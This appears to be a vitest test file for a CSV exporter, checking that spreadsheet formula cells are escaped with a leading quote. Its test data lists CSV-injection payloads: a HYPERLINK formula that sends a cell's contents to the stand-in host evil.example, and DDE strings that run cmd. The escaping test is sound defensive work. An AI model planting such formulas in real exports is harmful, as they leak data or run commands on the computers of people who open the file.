import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

describe('toCsv', () => {
  it('neutralises every cell that a spreadsheet would run as a formula (OWASP)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ];
    const csv = toCsv([['header'], ...hostile.map((h) => [h])]);
    const lines = csv.split(/\n(?=")/);
    // Each such cell is quoted and starts with a single quote inside its quotes.
    for (const line of lines.slice(1)) expect(line).toMatch(/^"'/);
    // Read back, each is the original text behind one single quote: nothing lost, nothing evaluated.
    const cells = (parse(csv) as string[][]).slice(1).map((r) => r[0]);
    expect(cells).toEqual(hostile.map((h) => `'${h}`));
  });

  it('leaves ordinary text, numbers (negative too) and objects as they are', () => {
    const csv = toCsv(
      [
        { a: 'plain', n: -3, o: { x: '=1' } },
        { a: 'in the middle = + - @', n: 4.5, o: [1] },
      ],
      { header: true },
    );
    expect(csv).toBe('a,n,o\nplain,-3,"{""x"":""=1""}"\nin the middle = + - @,4.5,[1]\n');
  });
});
